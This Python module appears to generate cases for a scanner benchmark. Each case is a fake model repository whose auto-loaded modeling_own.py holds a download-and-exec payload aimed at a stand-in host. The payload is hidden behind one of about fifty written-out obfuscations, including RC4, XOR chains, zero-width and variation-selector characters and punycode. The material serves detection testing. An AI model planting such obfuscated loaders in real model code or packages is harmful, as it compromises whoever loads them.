"""Addresses behind encodings that few think of, in the code of a model repository; each decoder is written out in the code.

The note ``address`` names what has to appear among the indicators.
"""

from __future__ import annotations

import base64
import hashlib
import json
import random
import uuid
import zlib
from collections.abc import Iterator
from itertools import accumulate, pairwise

from benchmarks.corpus.malicious.cases import Case
from benchmarks.corpus.malicious.formats.tensors import safetensors

HOST = "203.0.113.77"
CODE = f"import urllib.request as u;exec(u.urlopen('http://{HOST}/s').read())"
_RAW = CODE.encode()
_WEIGHTS = safetensors({"w": {"dtype": "F32", "shape": [8], "data_offsets": [0, 32]}})
_B58 = "123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz"
_WORDS = "oak elm ash fir yew box bay fig sun sky sea bog fen dew fog ice".split()


def _base58(data: bytes) -> str:
    number, out = int.from_bytes(data), ""
    while number:
        number, digit = divmod(number, 58)
        out = _B58[digit] + out
    return out


def _rc4(key: bytes, data: bytes) -> bytes:
    state, j, out = list(range(256)), 0, bytearray()
    for i in range(256):
        j = (j + state[i] + key[i % len(key)]) % 256
        state[i], state[j] = state[j], state[i]
    i = j = 0
    for byte in data:
        i = (i + 1) % 256
        j = (j + state[i]) % 256
        state[i], state[j] = state[j], state[i]
        out.append(byte ^ state[(state[i] + state[j]) % 256])
    return bytes(out)


def _with_dictionary(data: bytes) -> bytes:
    engine = zlib.compressobj(9, zlib.DEFLATED, 15, 9, zlib.Z_DEFAULT_STRATEGY, b"urllib.request.urlopen().read()")
    return engine.compress(data) + engine.flush()


def _octets(data: bytes, width: int, fill: int = 32) -> list[bytes]:
    padded = data + bytes([fill]) * (-len(data) % width)
    return [padded[at : at + width] for at in range(0, len(padded), width)]


def _decoders() -> dict[str, str]:
    """Give source that leaves the payload in ``c``, by name."""
    rotated = bytes((byte << 3 | byte >> 5) & 255 for byte in _RAW)
    swapped = bytes((byte & 15) << 4 | byte >> 4 for byte in _RAW)
    mirrored = bytes(int(f"{byte:08b}"[::-1], 2) for byte in _RAW)
    deltas = [_RAW[0], *(b - a for a, b in pairwise(_RAW))]
    gray = [byte ^ byte >> 1 for byte in _RAW]
    rolling = bytes(byte ^ (index * 7 + 13) & 255 for index, byte in enumerate(_RAW))
    chained = list(accumulate(_RAW, lambda a, b: a ^ b))
    key = b"toad"
    vigenere = bytes((byte + key[index % 4]) & 255 for index, byte in enumerate(_RAW))
    affine = bytes((byte * 5 + 8) & 255 for byte in _RAW)
    shuffled = list(range(len(CODE)))
    random.Random(7).shuffle(shuffled)
    fenced = CODE[::2] + CODE[1::2]
    hashed = bytes(byte ^ hashlib.sha256(b"k" + bytes([index // 32])).digest()[index % 32] for index, byte in enumerate(_RAW))
    words = " ".join(_WORDS[half] for byte in _RAW for half in (byte >> 4, byte & 15))
    selectors = "\U0001f438" + "".join(chr(0xFE00 + byte if byte < 16 else 0xE0100 + byte - 16) for byte in _RAW)
    spaces = "".join("\t" if bit == "1" else " " for byte in _RAW for bit in f"{byte:08b}")
    invisible = "".join("\u200b" if bit == "0" else "\u200c" for byte in _RAW for bit in f"{byte:08b}")
    addresses = [".".join(map(str, part)) for part in _octets(_RAW, 4)]
    cards = ["-".join(f"{byte:02x}" for byte in part) for part in _octets(_RAW, 6)]
    identifiers = [str(uuid.UUID(bytes_le=part)) for part in _octets(_RAW, 16)]
    pieces = {index: CODE[index : index + 5] for index in range(0, len(CODE), 5)}
    mixed = dict(sorted(pieces.items(), key=lambda item: hashlib.md5(str(item).encode()).digest()))
    base91 = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"
    custom = str.maketrans(base91, base91[::-1])
    odd64 = base64.b64encode(_RAW).decode().rstrip("=").translate(custom)
    return {
        "rotate-bits": f"c = bytes((b >> 3 | b << 5) & 255 for b in {rotated!r})",
        "swap-nibbles": f"c = bytes((b & 15) << 4 | b >> 4 for b in {swapped!r})",
        "mirror-bits": f"c = bytes(int(format(b, '08b')[::-1], 2) for b in {mirrored!r})",
        "deltas": f"t = 0\nc = ''\nfor d in {deltas!r}:\n    t += d\n    c += chr(t)",
        "gray-code": f"def g(n):\n    m = n >> 1\n    while m:\n        n ^= m\n        m >>= 1\n    return n\n\n\nc = ''.join(chr(g(n)) for n in {gray!r})",
        "rolling-key": f"c = bytes(b ^ (i * 7 + 13) & 255 for i, b in enumerate({rolling!r}))",
        "chained-xor": f"p = 0\nout = []\nfor b in {chained!r}:\n    out.append(b ^ p)\n    p = b\nc = bytes(out)",
        "vigenere": f"from itertools import cycle\nc = bytes((b - k) % 256 for b, k in zip({vigenere!r}, cycle(b'toad')))",
        "affine": f"i = pow(5, -1, 256)\nc = bytes((b - 8) * i % 256 for b in {affine!r})",
        "rc4": f"def r(k, d):\n    s = list(range(256))\n    j = 0\n    for i in range(256):\n        j = (j + s[i] + k[i % len(k)]) % 256\n        s[i], s[j] = s[j], s[i]\n    i = j = 0\n    o = bytearray()\n    for b in d:\n        i = (i + 1) % 256\n        j = (j + s[i]) % 256\n        s[i], s[j] = s[j], s[i]\n        o.append(b ^ s[(s[i] + s[j]) % 256])\n    return bytes(o)\n\n\nc = r(b'toad', {_rc4(b'toad', _RAW)!r})",
        "hash-stream": f"import hashlib\nc = bytes(b ^ hashlib.sha256(b'k' + bytes([i // 32])).digest()[i % 32] for i, b in enumerate({hashed!r}))",
        "seeded-shuffle": f"import random\no = list(range({len(CODE)}))\nrandom.Random(7).shuffle(o)\nt = {''.join(CODE[i] for i in shuffled)!r}\nc = ''.join(ch for _, ch in sorted(zip(o, t)))",
        "rail-fence": f"t = {fenced!r}\nh = (len(t) + 1) // 2\nc = ''.join(a + b for a, b in __import__('itertools').zip_longest(t[:h], t[h:], fillvalue=''))",
        "base58": f"A = {_B58!r}\nn = 0\nfor ch in {_base58(_RAW)!r}:\n    n = n * 58 + A.index(ch)\nc = n.to_bytes((n.bit_length() + 7) // 8, 'big')",
        "big-number": f"n = {int.from_bytes(_RAW)}\nc = n.to_bytes({len(_RAW)}, 'big')",
        "base36": f"c = bytes.fromhex('%x' % int({_base36(int.from_bytes(_RAW))!r}, 36))",
        "base64-alphabet": f"import base64\nA = {base91!r}\ns = {odd64!r}.translate(str.maketrans(A[::-1], A))\nc = base64.b64decode(s + '=' * (-len(s) % 4))",
        "base32-hex": f"import base64\nc = base64.b32hexdecode({base64.b32hexencode(_RAW)!r})",
        "zlib-dictionary": f"import zlib\nc = zlib.decompressobj(zdict=b'urllib.request.urlopen().read()').decompress({_with_dictionary(_RAW)!r})",
        "words": f"W = {' '.join(_WORDS)!r}.split()\nn = [W.index(w) for w in {words!r}.split()]\nc = bytes(a << 4 | b for a, b in zip(n[::2], n[1::2]))",
        "variation-selectors": f"s = {selectors!r}[1:]\nc = bytes(ord(x) - 0xFE00 if ord(x) < 0xFE10 else ord(x) - 0xE0100 + 16 for x in s)",
        "tabs": f"s = {spaces!r}\nb = s.translate({{9: 49, 32: 48}})\nc = bytes(int(b[i:i + 8], 2) for i in range(0, len(b), 8))",
        "zero-width": f"b = ''.join('0' if x == '\\u200b' else '1' for x in {invisible!r})\nc = bytes(int(b[i:i + 8], 2) for i in range(0, len(b), 8))",
        "addresses": f"import ipaddress\nc = b''.join(ipaddress.IPv4Address(a).packed for a in {addresses!r})",
        "addresses-by-hand": f"c = bytes(int(o) for a in {addresses!r} for o in a.split('.'))",
        "cards": f"c = b''.join(bytes.fromhex(a.replace('-', '')) for a in {cards!r})",
        "identifiers": f"import uuid\nc = b''.join(uuid.UUID(i).bytes_le for i in {identifiers!r})",
        "dictionary-order": f"d = {mixed!r}\nc = ''.join(d[k] for k in sorted(d))",
        "struct-words": f"import struct\nc = struct.pack('<{len(_octets(_RAW, 4))}I', *{[int.from_bytes(p, 'little') for p in _octets(_RAW, 4)]!r})",
        "array": f"import array\nc = array.array('H', {[int.from_bytes(p, 'little') for p in _octets(_RAW, 2)]!r}).tobytes()",
        "doubles": f"import struct\nc = b''.join(struct.pack('>Q', n) for n in {[int.from_bytes(p) for p in _octets(_RAW, 8)]!r})",
        "escape-decode": f"import codecs\nc = codecs.escape_decode({''.join(f'{chr(92)}x{byte:02x}' for byte in _RAW)!r})[0]",
        "unicode-escape": f"c = {''.join(f'{chr(92)}u{byte:04x}' for byte in _RAW)!r}.encode().decode('unicode_escape')",
        "percent": f"from urllib.parse import unquote\nc = unquote({''.join(f'%{byte:02X}' for byte in _RAW)!r})",
        "entities": f"import html\nc = html.unescape({''.join(f'&#{byte};' for byte in _RAW)!r})",
        "punycode": f"c = {CODE.encode('punycode')!r}.decode('punycode')",
        "utf-7": f"c = {('+' + base64.b64encode(CODE.encode('utf-16-be')).decode().rstrip('=') + '-')!r}.encode().decode('utf-7')",
        "ebcdic": f"c = {CODE.encode('cp500')!r}.decode('cp500')",
        "utf-16-surplus": f"c = {CODE.encode('utf-16-le')!r}.decode('utf-16-le')",
        "replace-noise": f"c = {'#@!'.join(CODE)!r}.replace('#@!', '')",
        "every-third": f"c = {''.join(ch + 'qz' for ch in CODE)!r}[::3]",
        "translate": f"c = {CODE.translate(str.maketrans('abcdefghijklmnop', 'ponmlkjihgfedcba'))!r}.translate(str.maketrans('ponmlkjihgfedcba', 'abcdefghijklmnop'))",
        "subtract": f"c = ''.join(map(chr, [n - i for i, n in enumerate({[byte + index for index, byte in enumerate(_RAW)]!r})]))",
        "reduce": f"from functools import reduce\nc = reduce(lambda a, n: a + chr(n ^ 90), {[byte ^ 90 for byte in _RAW]!r}, '')",
        "class-getitem": f"class D:\n    k = 11\n\n    def __getitem__(self, t):\n        return ''.join(chr(ord(x) ^ self.k) for x in t)\n\n\nc = D()[{''.join(chr(byte ^ 11) for byte in _RAW)!r}]",
        "generator": f"def g(d):\n    for a in d:\n        yield chr(a // 3 - 4)\n\n\nc = ''.join(g({[(byte + 4) * 3 for byte in _RAW]!r}))",
        "numpy-xor": f"import numpy as np\nc = (np.frombuffer({bytes(byte ^ 55 for byte in _RAW)!r}, dtype=np.uint8) ^ 55).tobytes()",
        "match-statement": f"def k(i, n):\n    match i % 3:\n        case 0:\n            return n ^ 1\n        case 1:\n            return n ^ 2\n        case _:\n            return n\n\n\nc = ''.join(chr(k(i, b)) for i, b in enumerate({[byte ^ (1, 2, 0)[index % 3] for index, byte in enumerate(_RAW)]!r}))",
    }


def _base36(number: int) -> str:
    out = ""
    while number:
        number, digit = divmod(number, 36)
        out = "0123456789abcdefghijklmnopqrstuvwxyz"[digit] + out
    return out


def decoded(source: str) -> str:
    """Run a decoder of this module; for the tests, which see that each gives the payload back."""
    names: dict[str, object] = {}
    exec(source, names)
    found = names["c"]
    return (found if isinstance(found, str) else bytes(found).decode()).rstrip()  # type: ignore[call-overload]


def cases() -> Iterator[Case]:
    """One repository for each encoding."""
    config = json.dumps({"model_type": "own", "auto_map": {"AutoModel": "modeling_own.Own"}}).encode()
    for name, source in _decoders().items():
        code = f"{source}\nexec(c)\n\n\nclass Own:\n    pass\n"
        files = {"config.json": config, "modeling_own.py": code.encode(), "model.safetensors": _WEIGHTS}
        yield Case(f"stage-{name}", files, f"stage-{name}", notes={"address": HOST})
